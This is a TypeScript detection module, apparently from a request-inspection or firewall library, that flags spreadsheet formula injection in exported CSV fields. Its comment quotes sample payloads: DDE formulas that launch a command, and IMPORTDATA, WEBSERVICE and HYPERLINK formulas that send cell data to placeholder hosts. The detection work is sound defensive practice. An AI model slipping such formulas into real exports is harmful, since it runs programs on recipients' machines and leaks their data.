/**
 * @module core/signatures/formula-injection
 * Formula injection beyond DDE (932201 reads `=cmd|' /C calc'!A0` in the
 * detectors): text that a spreadsheet will evaluate once an export of it is
 * opened (a CSV of claims, tickets, expenses).
 * - `=DDE("cmd";"/C calc";"!A0")`, DDE's function form: it runs a program
 *   (932201).
 * - A network function whose URL is built from the sheet's cells
 *   (`=IMPORTDATA("https://x.example/c?"&JOIN(",",A1:A200))`,
 *   `=WEBSERVICE("…?"&ENCODEURL(A1&B1))`, `=HYPERLINK("http://x/log?"&A1,
 *   "Click to refresh")`): the workbook sends its data away (920269). A
 *   link or an image with a fixed URL (`=HYPERLINK("https://…/q1","Q1")`) is
 *   a formula like any other, and in a field made for formulas (`formula`,
 *   `value`, a sheet's `cells` and `rows`, a column letter) building a URL
 *   from cells is the feature (a QR code, a ticket link), so there it passes.
 */

/** A cell's formula prefix, after the blanks and quotes CSV writers and attackers put before it. */
const PREFIX = /^[\t\r\n "']*[=+\-@]/;
const DDE = /^[\t\r\n "']*[=+\-@][\s(]*DDE\s*\(/i;
const NET_CALL = /\b(?:IMPORTDATA|IMPORTXML|IMPORTHTML|IMPORTFEED|IMAGE|WEBSERVICE|HYPERLINK|FILTERXML)\s*\(/i;
const URL_LITERAL = /["']\s*https?:\/\//i;
const CONCATENATION = /["']\s*&|&\s*["']|&\s*\$?[A-Z]{1,3}\$?\d|\b(?:ENCODEURL|CONCATENATE|CONCAT|TEXTJOIN|JOIN)\s*\(/i;
const FORMULA_FIELD = /^(?:formulas?|values?|cells?|rows?|userenteredvalue|[a-z]{1,3}\d*)$/i;

export type FormulaAbuse = "dde" | "exfiltration" | null;

/** `key` is the field's own name (`note`, `B`, `rows[0][1]`); `value` its text. */
export function formulaAbuse(key: string, value: string): FormulaAbuse {
  if (!PREFIX.test(value)) return null;
  if (DDE.test(value)) return "dde";
  const head = value.slice(0, 2048);
  if (!NET_CALL.test(head) || !URL_LITERAL.test(head) || !CONCATENATION.test(head)) return null;
  const bracket = key.indexOf("[");
  return FORMULA_FIELD.test(bracket < 0 ? key : key.slice(0, bracket)) ? null : "exfiltration";
}
